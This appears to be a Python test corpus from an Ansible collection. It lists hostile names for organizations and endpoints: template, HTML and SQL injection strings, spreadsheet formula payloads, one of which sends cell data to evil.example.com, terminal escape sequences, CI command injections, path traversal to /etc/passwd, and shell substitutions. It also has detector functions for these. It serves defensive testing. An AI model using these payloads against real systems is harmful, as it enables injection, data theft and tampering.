# Copyright: (c) 2026, genesyscloud.usage contributors
# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""Names that somebody may give an organization, an OAuth client or an endpoint in order to do harm, in one place.

Every output is tried with all of them: ``from corpus import NAMES``. ``NAMES`` is a name for each kind and number,
``by_kind`` those of one kind. ``raw_controls`` finds what must not reach a terminal, ``ci_commands`` what must not
reach a CI system, ``formulas`` what must not reach a spreadsheet.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

TEMPLATES = [
    "{{ 7*7 }}",
    "{{ lookup('ansible.builtin.pipe', 'touch PWNED') }}",
    "{% for x in range(9) %}{{ x }}{% endfor %}",
    "{# gone #}shown",
    "${7*7} #{7*7} <%= 7*7 %>",
]
MARKUP = [
    "<script>alert(7*7)</script>",
    '"><img src=x onerror=alert(1)>',
    "</td></tr></table></svg></style><b>bold",
    "&lt;b&gt; &#60;i&#62; &amp",
    "' onmouseover='alert(1)",
    "javascript:alert(1)",
    "<!--#exec cmd='id' --><![CDATA[x]]>",
]
MARKDOWN = [
    "a | b | c",
    "[click](https://evil.example.com)",
    "![img](https://evil.example.com/pixel.png)",
    "`code` **bold** _em_ ~~x~~ # head",
    "```\n# Heading\n- item\n> quote",
    "@everyone #1 <https://evil.example.com> https://evil.example.com",
]
FORMULAS = [
    "=1+1",
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("https://evil.example.com?x="&A1,"click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    '=1";=1',
    'a,"b";c\n=1',
]
TERMINAL = [
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x1b]52;c;cHduZWQ=\x07",
    "\x1b[2J\x1b[H\x1b[8mhidden",
    "\x9b31mC1",
    "\x9d0;C1 title\x9c",
    "back\x08\x08\x08\x08over",
    "over\rwritten",
    "del\x7fete",
    "\u202egnp.exe",
    "\u2066isolated\u2069",
    "zero\u200bwidth\ufeff",
    "line\u2028separator",
]
COMMANDS = [
    "::error::injected",
    "x\n::error file=a,line=1::injected",
    "  ::add-mask::injected",
    "::stop-commands::injected",
    "##vso[task.setvariable variable=PWNED]injected",
    "##[error]injected",
    "##teamcity[buildStatus status='FAILURE' text='injected']",
]
PATHS = [
    "../../../../etc/passwd",
    "..\\..\\windows\\system32",
    "/etc/passwd",
    "~root/.ssh/authorized_keys",
    ".",
    "..",
    "a/../../b",
    "-rf",
    "C:\\con",
    "$(touch PWNED) `touch PWNED`; touch PWNED",
]
SQL = [
    "'; DROP TABLE usage_day; --",
    "' OR '1'='1",
    '" OR ""="',
    "\\'; DELETE FROM coverage; --",
    "%s %(name)s ? :name $1 %",
    "a\tb\\N\\.",
]

KINDS = {
    "template": TEMPLATES,
    "markup": MARKUP,
    "markdown": MARKDOWN,
    "formula": FORMULAS,
    "terminal": TERMINAL,
    "command": COMMANDS,
    "path": PATHS,
    "sql": SQL,
}

NAMES = [name for names in KINDS.values() for name in names]

_CONTROLS = re.compile("[\x00-\x08\x0b\x0c\x0d\x0e-\x1f\x7f-\x9f\u200b\u2028-\u202e\u2066-\u2069\ufeff]")
_FORMULAS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
_COMMANDS = re.compile(r"^\s*::\s*[A-Za-z][^\n]*?::|##\s*(?:\[|[A-Za-z]+\[)", re.MULTILINE)


def by_kind(*kinds: str) -> list[str]:
    """The names of some kinds."""
    return [name for kind in kinds for name in KINDS[kind]]


def raw_controls(text: str, ansible_colours: bool = False) -> list[str]:
    """What in a text a terminal would act upon, or a reader would not see. Ansible's own colours may be left out."""
    text = re.sub("\x1b\\[[0-9;]*m", "", text) if ansible_colours else text
    return _CONTROLS.findall(text)


def ci_commands(text: str) -> list[str]:
    """What in a log a CI system would take for a command of its own."""
    return _COMMANDS.findall(text)


def formulas(cells: Iterable[str]) -> list[str]:
    """Cells that a spreadsheet would take for a formula."""
    return [cell for cell in cells if cell.startswith(_FORMULAS)]
